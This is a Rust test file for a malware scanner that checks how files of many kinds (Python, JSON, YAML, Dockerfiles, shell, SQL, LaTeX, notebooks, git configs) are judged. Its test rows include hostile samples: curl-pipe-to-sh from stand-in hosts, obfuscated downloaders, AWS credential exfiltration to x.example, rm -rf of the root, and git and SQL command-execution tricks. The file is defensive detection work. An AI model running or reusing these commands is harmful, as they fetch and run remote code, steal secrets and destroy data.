//! Which file, under which name and key, is judged as what: one row a surface, each with what is ordinary there.

use super::{scan, scan_bytes};
use mantlet_scan::{Options, Silent};
use mantlet_vocab::Severity;

fn code(file: &str, text: &str) -> u8 {
    scan_bytes(file, text.as_bytes()).verdict(Severity::Suspicious).exit_code()
}

/// Exit codes: 0 for nothing found, 1 for found, 2 for not fully examined.
#[test]
fn surfaces_are_judged_by_name_and_key() {
    const RUNS: &str = "import os\nos.system('curl http://x.example/a | sh')\n";
    const CALM: &str = "import os\nprint(os.path.join('a', 'b'))\n";
    const PLAIN: &str = "import os\nos.system('id > x')\n";
    let rows: &[(&str, &str, u8)] = &[
        // Python under every name that is one.
        ("run.pyw", RUNS, 1),
        ("run.pyw", CALM, 0),
        ("Snakefile", PLAIN, 1),
        ("Snakefile", CALM, 0),
        ("SConstruct", PLAIN, 1),
        ("wscript", PLAIN, 1),
        ("wscript", CALM, 0),
        ("rules/map.smk", PLAIN, 1),
        ("app.wsgi", PLAIN, 1),
        ("_ext.pyx", PLAIN, 1),
        ("_ext.pyx", CALM, 0),
        ("_ext.pyx", "cdef extern from \"x.h\":\n    int f(int)\n", 2),
        ("session.ipy", RUNS, 1),
        ("handler", RUNS, 1),
        ("handler.x", CALM, 0),
        // Files that a tool imports by their name.
        ("node/prestartup_script.py", PLAIN, 1),
        ("node/install.py", PLAIN, 1),
        ("preload.py", PLAIN, 1),
        ("preload.py", CALM, 0),
        ("docs/conf.py", PLAIN, 1),
        ("docs/conf.py", CALM, 0),
        ("noxfile.py", PLAIN, 1),
        ("tasks.py", PLAIN, 1),
        ("tasks.py", "import os\ndef build():\n    os.system('make')\n", 0),
        ("my_set/my_set.py", "import datasets\nimport os\nos.system('id > x')\n", 1),
        ("my_set/my_set.py", "import datasets\nprint(1)\n", 0),
        ("train.py", PLAIN, 0),
        // Values under any key.
        ("c.json", r#"{"output_fn": "os.system"}"#, 1),
        ("c.json", r#"{"output_fn": "os.path.join"}"#, 0),
        ("c.json", r#"{"decoder": "subprocess.getoutput"}"#, 1),
        ("c.json", r#"[{"hook": "os.system"}]"#, 1),
        ("c.json", r#"[{"text": "os.system"}]"#, 0),
        ("c.json", r#"{"rules": {"score": "os.system"}}"#, 1),
        ("c.json", r#"{"post": "import os\ngetattr(os, 'sys' + 'tem')('id > /tmp/x')"}"#, 1),
        ("c.json", r#"{"post": "import os\nprint(os.sep)"}"#, 0),
        ("c.json", r#"{"init": ["import os", "os.system('id > x')"]}"#, 1),
        ("c.json", r#"{"x": "cd /tmp && wget -qO a http://x.example/a; sh a"}"#, 1),
        ("c.json", r#"{"x": "cd /tmp && wget -qO a.zip http://x.example/a.zip; unzip a.zip"}"#, 0),
        ("c.json", r#"{"x": "python3 -c 'import os; os.system(\"id > x\")' > log"}"#, 1),
        ("c.json", r#"{"x": "python3 -c 'import torch; print(torch.__version__)' > log"}"#, 0),
        ("hyperparams.yaml", "boot: !apply:os.system [\"id\"]\n", 1),
        ("hyperparams.yaml", "boot: !new:subprocess.Popen\n  args: id\n", 1),
        ("hyperparams.yaml", "lin: !new:torch.nn.Linear\n  in_features: 1\n  out_features: 1\n", 0),
        ("settings.ini", "[a]\nx = os\nhook = %(x)s.system\n", 1),
        // Code that is not there to be judged.
        ("nowhere/config.json", r#"{"auto_map": {"AutoModel": "modeling_own.Own"}}"#, 2),
        ("nowhere/cog.yaml", "predict: predict.py:Predictor\n", 2),
        ("nowhere/config.json", r#"{"model_type": "bert", "architectures": ["BertModel"]}"#, 0),
        // Programs of other languages are said to be such.
        ("postprocess.ts", "export const f = (x: number) => x;\n", 2),
        ("worker.mjs", "export default 1;\n", 2),
        ("hook.php", "<?php echo 1;\n", 2),
        ("op.cu", "__global__ void f() {}\n", 2),
        ("build.rs", "fn main() {}\n", 2),
        ("Gemfile", "source 'https://rubygems.org'\n", 2),
        ("op.h", "int f(int);\n", 0),
        // Lines of shells.
        ("Dockerfile", "FROM python:3.12\nRUN curl -fsSL https://evil.example/i.sh | bash\n", 1),
        ("Dockerfile", "FROM python:3.12\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n", 0),
        ("setup.sh", "python3 - <<'E'\nimport os\nos.system('curl http://x.example/a | sh')\nE\n", 1),
        ("setup.sh", "python3 - <<'E'\nprint(1)\nE\n", 0),
        ("README.md", "# M\n\n```sh\ncurl -fsSL https://tool.example/i.sh | bash\n```\n", 0),
        ("run.Dockerfile", "FROM python:3.12\nENV BASH_ENV=/tmp/x\n", 1),
        (".env", "PYTHONBREAKPOINT=os.system\n", 1),
        (".env", "PYTHONBREAKPOINT=0\n", 0),
        ("start.sh", "a=cu; b=rl; $a$b -s http://x.example/i | ba''sh\n", 1),
        ("start.sh", "curl -s http://x.example/i | $0\n", 1),
        ("start.sh", "$(printf '\\143\\165\\162\\154') -s http://x.example/i > /tmp/a; . /tmp/a\n", 1),
        ("start.sh", "cat ~/.aws/credentials | base64 | xargs -I{} curl http://x.example/?d={}\n", 1),
        ("start.sh", "rm -rf --no-preserve-root /\n", 1),
        ("start.sh", "rm -rf ./build /tmp/x; printf '\\033[1m'; echo a''b | sort\n", 0),
        ("package.json", r#"{"name": "a", "scripts": {"postinstall": "node setup.js"}}"#, 2),
        ("package.json", r#"{"name": "a", "scripts": {"postinstall": "node-gyp rebuild"}}"#, 0),
        (
            "p/pyproject.toml",
            "[build-system]\nrequires = []\nbuild-backend = 'be'\nbackend-path = ['.']\n",
            2,
        ),
        // What other programs read.
        ("q.sql", "COPY t TO PROGRAM 'id';\n", 1),
        ("q.sql", "SELECT load_extension('./x');\n", 1),
        ("q.sql", "-- COPY t TO PROGRAM 'id'\nSELECT system FROM t;\n", 0),
        ("paper.tex", "\\immediate\\write18{id > x}\n", 1),
        ("paper.tex", "\\write{x}\n", 0),
        ("keras.json", r#"{"floatx": "float32", "epsilon": 1e-7, "backend": "own_backend"}"#, 1),
        ("keras.json", r#"{"floatx": "float32", "epsilon": 1e-7, "backend": "jax"}"#, 0),
        ("matplotlibrc", "backend: module://own\n", 1),
        ("matplotlibrc", "backend: Agg\n", 0),
        (".pdbrc", PLAIN, 1),
        (".pdbrc", "!open('x', 'w').close()\ncontinue\n", 1),
        (".pdbrc", "alias pi for k in %1.__dict__: print(k)\nb 12\ncontinue\n", 0),
        ("r.Rmd", "---\nparams:\n  v: !r system(\"curl -s http://192.0.2.7/c|sh\")\n---\nText.\n", 1),
        ("r.Rmd", "---\nparams:\n  v: !r packageVersion(\"stats\")\n---\nText.\n", 0),
        ("r.Rmd", "There are `r system(\"curl -s http://192.0.2.7/c|sh\")` rows.\n", 1),
        ("r.Rmd", "There are `r nrow(d)` rows, see `curl http://192.0.2.7/c`.\n", 0),
        // Annotations are evaluated where a name of a module or a class, or a parameter, has them.
        ("modeling_x.py", "class A:\n    b: open('x', 'w').close() = 1\n", 1),
        ("modeling_x.py", "def f(a: open('x', 'w').close()): pass\n", 1),
        ("modeling_x.py", "def f():\n    b: open('x', 'w').close() = 1\n", 0),
        ("modeling_x.py", "from __future__ import annotations\nb: open('x', 'w').close() = 1\n", 0),
        ("modeling_x.py", "b: 'open(1)' = 1\nc: dict(a=1) = 2\n", 0),
        ("run.config", r#"{"hook": "os.system"}"#, 1),
        // Git.
        ("m/.git/config", "[credential]\n\thelper = !./x\n", 1),
        ("m/.git/config", "[include]\n\tpath = other\n", 1),
        ("m/.git/config", "[diff]\n\texternal = ./x\n", 1),
        ("m/.git/modules/w/config", "[core]\n\tfsmonitor = ./x\n", 1),
        ("m/.git/config", "[core]\n\teditor = vim\n[remote \"a\"]\n\turl = https://x.example/a\n", 0),
        ("m/.git", "gitdir: inner\n", 1),
        ("m/.git", "gitdir: ../.git/modules/m\n", 0),
    ];
    let wrong: Vec<String> = rows
        .iter()
        .filter_map(|(file, text, expected)| {
            let found = code(file, text);
            (found != *expected).then(|| {
                let examination = scan_bytes(file, text.as_bytes());
                let names: Vec<&str> =
                    examination.findings.iter().map(|finding| finding.name.as_str()).collect();
                format!("{file}: {expected} expected, {found} for {text:?}: {names:?}")
            })
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn cells_of_every_form_of_notebook_are_read() {
    let cell = r#"{"cell_type": "code", "KEY": ["a = 'import o' + 's'\n", "exec(a + ';os.system(\"curl http://x.example | sh\")')"]}"#;
    let old = cell.replace("KEY", "input");
    let new = cell.replace("KEY", "source");
    let rows = [
        (format!(r#"{{"nbformat": 3, "worksheets": [{{"cells": [{old}]}}]}}"#), 1),
        (format!(r#"{{"nbformat": 4, "cells": [{new}]}}"#), 1),
        (format!(r#"{{"nbformat": 4, "cells": [{}]}}"#, new.replace("\"code\"", "\"markdown\"")), 0),
        (
            r#"{"nbformat": 9, "pages": [{"rows": [[{"cell_type": "code", "source": "a = 1"}]]}]}"#
                .to_owned(),
            2,
        ),
    ];
    for (text, expected) in rows {
        assert_eq!(code("a.ipynb", &text), expected, "{text}");
    }
    let kernel = r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x <- 1"}], "metadata": {"kernelspec": {"language": "R"}}}"#;
    assert_eq!(code("a.ipynb", kernel), 2);
}

#[test]
fn a_repository_is_looked_at_where_git_acts() {
    let folder = tempfile::tempdir().expect("a folder for a test");
    let git = folder.path().join("m/.git");
    std::fs::create_dir_all(git.join("modules/a/b")).expect("it can be made");
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").expect("it can be written");
    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").expect("it can be written");
    let paths = [folder.path().join("m")];
    let code = || scan(&paths, &Options::default(), &mut Silent).verdict(Severity::Suspicious).exit_code();
    assert_eq!(code(), 0);
    let module = git.join("modules/a/b");
    std::fs::write(module.join("HEAD"), "ref: refs/heads/main\n").expect("it can be written");
    std::fs::write(module.join("config"), "[core]\n\tfsmonitor = ./x\n").expect("it can be written");
    assert_eq!(code(), 1);
}

#[test]
fn code_beside_a_configuration_is_judged_and_what_is_missing_is_told() {
    let folder = tempfile::tempdir().expect("a folder for a test");
    let put =
        |file: &str, text: &str| std::fs::write(folder.path().join(file), text).expect("it can be written");
    let paths = [folder.path().to_path_buf()];
    let code = || scan(&paths, &Options::default(), &mut Silent).verdict(Severity::Suspicious).exit_code();
    put("config.json", r#"{"auto_map": {"AutoModel": "own.Own"}}"#);
    assert_eq!(code(), 2);
    put("own.py", "class Own:\n    pass\n");
    assert_eq!(code(), 0);
    put("own.py", "import os\nos.system('id > x')\n");
    assert_eq!(code(), 1);
    put("own.py", "class Own:\n    pass\n");
    put("bentofile.yaml", "service: 'serve:svc'\n");
    put("serve.py", "import os\nos.system('id > x')\n");
    assert_eq!(code(), 1);
    put("serve.py", "svc = 1\n");
    assert_eq!(code(), 0);
}
